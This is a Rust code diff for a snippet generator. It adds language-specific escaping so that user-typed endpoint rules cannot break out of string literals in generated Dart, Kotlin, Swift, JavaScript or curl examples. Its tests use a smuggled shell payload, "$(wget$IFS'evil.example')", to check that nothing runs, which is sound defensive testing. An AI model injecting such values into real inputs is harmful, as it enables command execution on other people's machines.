@@ -30,7 +30,7 @@ enum Platform {
 }
 
 impl Platform {
-    fn snippet(self, package: &str, code: String) -> Snippet {
+    fn snippet(self, package: &str, code: &str) -> Snippet {
         let (id, title, language) = match self {
             Self::Flutter => ("flutter", "Flutter", "dart"),
             Self::Swift => ("swift", "Swift", "swift"),
@@ -40,13 +40,43 @@ impl Platform {
             Self::Curl => ("curl", "curl", "sh"),
         };
         let title = if package.is_empty() { title.to_owned() } else { format!("{title} ({package})") };
-        Snippet { id: id.to_owned(), title, language: language.to_owned(), code }
+        Snippet { id: id.to_owned(), title, language: language.to_owned(), code: code.to_owned() }
+    }
+
+    /// Fills `{name}` places; code is full of braces, so `format!` would make it unreadable.
+    fn fill(self, template: &str, places: &[(&str, Place)]) -> String {
+        places.iter().fold(template.to_owned(), |code, (name, place)| match place {
+            Place::Code(value) => code.replace(name, value),
+            Place::Text(value) => code.replace(name, &self.escaped(value)),
+        })
+    }
+
+    /// As it stands between the double quotes of the language; in a shell, between single ones.
+    fn escaped(self, text: &str) -> String {
+        let special: &[char] = match self {
+            // `$` begins an interpolation.
+            Self::Flutter | Self::Kotlin => &['\\', '"', '$'],
+            Self::Swift | Self::ReactNative | Self::JavaScript => &['\\', '"'],
+            Self::Curl => return text.replace('\'', r"'\''"),
+        };
+        text.chars().fold(String::new(), |mut escaped, letter| {
+            if special.contains(&letter) {
+                escaped.push('\\');
+            }
+            escaped.push(letter);
+            escaped
+        })
     }
 }
 
-/// Fills `{name}` places; code is full of braces, so `format!` would make it unreadable.
-fn fill(template: &str, places: &[(&str, &str)]) -> String {
-    places.iter().fold(template.to_owned(), |code, (name, value)| code.replace(name, value))
+/// What goes into a template.
+#[derive(Clone, Copy)]
+enum Place<'a> {
+    /// Part of the program as it is.
+    Code(&'a str),
+    /// Part of a string literal. Rules and addresses are typed by people, and the example is pasted into a shell or an
+    /// app by another member of the account: nothing in them may be run.
+    Text(&'a str),
 }
 
 /// How each platform gets the token, for the comment above `userToken`.
@@ -109,5 +139,47 @@ mod tests {
             local.contains("host: \"localhost\", port: 8080, scheme: \"http\", basePath: \"/abcdefghijkl/v1\""),
             "{local}"
         );
+    }
+
+    /// A path that a rule may have and that is a program to a shell, in Dart and in Kotlin.
+    const HOSTILE: &str = "/v1/$(wget$IFS'evil.example')";
+
+    fn hostile(id: &str) -> String {
+        let rule =
+            EndpointRule { method: "GET".to_owned(), template: HOSTILE.to_owned(), query: vec![], headers: vec![] };
+        let rules = crate::validate::endpoint_rules(&[rule]).expect("a rule may look like this");
+        let found = snippets("custom", EDGE, &rules).into_iter().find(|snippet| snippet.id == id);
+        found.expect("every platform is there").code
+    }
+
+    #[test]
+    fn a_rule_is_text_in_every_language() {
+        for (id, want) in [
+            ("flutter", r#""https://edge.example.com/abcdefghijkl/v1/\$(wget\$IFS'evil.example')""#),
+            ("kotlin", r#""https://edge.example.com/abcdefghijkl/v1/\$(wget\$IFS'evil.example')""#),
+            ("swift", r#""https://edge.example.com/abcdefghijkl/v1/$(wget$IFS'evil.example')""#),
+            ("javascript", r#""https://edge.example.com/abcdefghijkl/v1/$(wget$IFS'evil.example')""#),
+            ("curl", r#"'https://edge.example.com/abcdefghijkl/v1/$(wget$IFS'\''evil.example'\'')'"#),
+        ] {
+            assert!(hostile(id).contains(want), "{id}:\n{}", hostile(id));
+        }
+    }
+
+    #[test]
+    fn quotes_and_backslashes_do_not_end_a_literal() {
+        assert_eq!(Platform::Swift.escaped(r#"\(exit()) ""#), r#"\\(exit()) \""#);
+        assert_eq!(Platform::JavaScript.escaped(r#"" + x"#), r#"\" + x"#);
+        assert_eq!(Platform::Flutter.escaped(r#"${x}\"#), r#"\${x}\\"#);
+        assert_eq!(Platform::Curl.escaped(r#"$x "`'"#), r#"$x "`'\''"#);
+    }
+
+    #[test]
+    fn a_shell_hands_the_address_to_curl_as_it_is_and_runs_nothing() {
+        let script = format!("wget() {{ echo RUN >&2; }}; curl() {{ printf '%s\\n' \"$@\"; }}\n{}", hostile("curl"));
+        let ran = std::process::Command::new("sh").args(["-c", &script]).env("USER_TOKEN", "token").output();
+        let output = ran.expect("there is a shell");
+        let printed = String::from_utf8_lossy(&output.stdout).into_owned();
+        assert!(printed.lines().any(|argument| argument == format!("{EDGE}{HOSTILE}")), "{printed}");
+        assert!(output.stderr.is_empty(), "{}", String::from_utf8_lossy(&output.stderr));
     }
 }
